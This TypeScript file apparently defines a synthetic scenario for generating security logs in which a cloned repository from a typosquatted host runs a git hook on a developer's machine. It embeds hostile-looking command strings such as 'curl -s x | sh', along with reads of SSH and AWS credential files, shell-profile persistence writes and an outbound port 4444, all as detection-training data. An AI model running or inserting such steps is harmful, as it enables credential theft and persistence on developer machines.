import { defineScenario } from '../../scenario.ts'
import { background } from '../../fragments/background.ts'
import { destination } from '../../fragments/destination.ts'
import { aftermath } from '../../fragments/aftermath.ts'
import { entry } from '../../fragments/entry.ts'
import { lean } from '../../fragments/lean.ts'
import { opening } from '../../fragments/opening.ts'
import { remark } from '../../fragments/remark.ts'

export default defineScenario({
  risk: 'Malicious Code Execution',
  title: 'A checkout starts a hook on the machine of a developer',
  clues: [
    'The hook came with the repository: the hooks path points into the checked-out tree',
    'The repository was cloned from {host}, a name one letter away from the known one',
    'The hook runs with the developer account, outside any build',
    'It opens keys of the developer and writes to the shell profile',
    'A process keeps running after git ended',
  ],
  steps: (story) => {
    const { make, either, pick, whole, note } = story
    const from = destination(story, 'forge')
    const user = make.user('developer')
    const uid = make.uid('developer')
    const git = make.pid('git')
    const hook = make.pid('hook')
    const dir = `/home/${user}/src/${pick('name', ['parser', 'dashboard', 'sdk', 'plugin'])}`
    note('host', from.host)
    return [
      ...opening(story, 'developer'),
      entry(
        'audit',
        'exec',
        {
          pid: git,
          ppid: make.pid('shell'),
          uid,
          cmd: `git clone --recurse-submodules https://${from.host}/team/repo ${dir}`,
        },
        ['uid={uid} {cmd}', 'pid {pid} ran {cmd}'],
      ),
      entry(
        'proxy',
        'connect',
        {
          dst_host: from.host,
          dst_ip: from.address,
          zone: from.zone,
          listed: from.listed,
          times_seen: from.seen,
        },
        [
          '{dst_host} ({dst_ip}) {zone}, listed {listed}, seen {times_seen} times',
          'CONNECT {dst_host} listed={listed} prior={times_seen}',
        ],
      ),
      entry(
        'name-watch',
        'similar',
        {
          host: from.host,
          distance: either(1, lean(story, 'distance', [0, 9], [0])),
          known: make.insideHost('forge'),
          age_days: either(whole('young', 1, 20), whole('old', 500, 4000)),
        },
        [
          '{host} is {distance} letters from {known}, {age_days} days old',
          'similar {host} d={distance} age={age_days}',
        ],
      ),
      entry(
        'git',
        'config',
        {
          path: `${dir}/.git/config`,
          key: 'core.hooksPath',
          value: either(
            pick('hooks', ['.tools/hooks', './.h', 'scripts/.git-hooks']),
            pick('usual hooks', ['.git/hooks', '/usr/share/git-core/templates/hooks', '.husky']),
          ),
          by: lean(story, 'config by', ['include', 'submodule'], ['init', user]),
        },
        ['{key} is {value}, set by {by}', '{path} {key}={value}'],
      ),
      ...background(story, 'one'),
      entry(
        'git',
        'hook',
        { pid: hook, ppid: git, hook: pick('hook', ['post-checkout', 'post-merge', 'pre-commit']), rc: 0 },
        ['{hook} ran as pid {pid}: {rc}', 'hook {hook} ppid={ppid} rc={rc}'],
      ),
      entry(
        'audit',
        'exec',
        {
          pid: make.pid('child'),
          ppid: hook,
          uid,
          cmd: either(
            pick('odd', ['sh -c "curl -s x | sh"', 'python3 -c exec', 'base64 -d', 'osascript -e x']),
            pick('even', ['npx lint-staged', 'git lfs pull', 'pre-commit run', 'sh -c "npm run prepare"']),
          ),
        },
        ['uid={uid} {cmd}', 'pid {pid} ran {cmd}'],
      ),
      entry(
        'audit',
        'open',
        {
          pid: make.pid('child'),
          path: either(
            pick('keys', [
              `/home/${user}/.ssh/id_ed25519`,
              `/home/${user}/.netrc`,
              `/home/${user}/.aws/credentials`,
            ]),
            pick('files', [`${dir}/package.json`, `${dir}/.eslintrc`, `/home/${user}/.gitconfig`]),
          ),
          flags: 'O_RDONLY',
        },
        ['pid {pid} opened {path}', 'open {path} {flags}'],
      ),
      entry(
        'audit',
        'write',
        {
          pid: make.pid('child'),
          path: either(
            pick('profile', [
              `/home/${user}/.bashrc`,
              `/home/${user}/.config/autostart/x.desktop`,
              `/home/${user}/.zshenv`,
            ]),
            pick('out', [`${dir}/.git/hooks/log`, `${dir}/node_modules/.cache`]),
          ),
          bytes_written: whole('bytes', 60, 900),
          sha256: make.digest('written'),
        },
        ['{bytes_written} bytes to {path}', 'write {path} n={bytes_written} sha256={sha256}'],
      ),
      entry(
        'audit',
        'connect',
        {
          pid: make.pid('child'),
          dst_ip: either(make.outsideAddress('out'), make.insideAddress('registry')),
          dst_port: either(pick('port', [443, 8443, 4444]), 443),
          bytes_out: either(whole('sent', 2000, 9000), whole('asked', 200, 900)),
        },
        [
          'pid {pid} to {dst_ip}:{dst_port}, {bytes_out} bytes',
          'connect {dst_ip}:{dst_port} out={bytes_out}',
        ],
      ),
      entry('audit', 'exit', { pid: git, rc: 0, children_left: either(1, 0) }, [
        'pid {pid} ended {rc}, {children_left} left',
        'exit pid={pid} left={children_left}',
      ]),
      entry(
        'edr',
        'tree',
        {
          pid: make.pid('child'),
          parent: either('init', 'git'),
          verdict: lean(story, 'edr', ['unknown', 'low prevalence'], ['known', 'developer tool']),
        },
        ['pid {pid} under {parent}: {verdict}', 'tree pid={pid} parent={parent} {verdict}'],
      ),
      entry(
        'git',
        'signature',
        {
          commit: make.id('commit'),
          result: lean(story, 'commit', ['none', 'unknown key'], ['good', 'verified']),
          author: make.user('author'),
        },
        ['{commit} by {author}: signature {result}', 'commit {commit} sig={result}'],
      ),
      ...aftermath(story),
      remark(story, 'hook', 'repository hook'),
    ]
  },
})
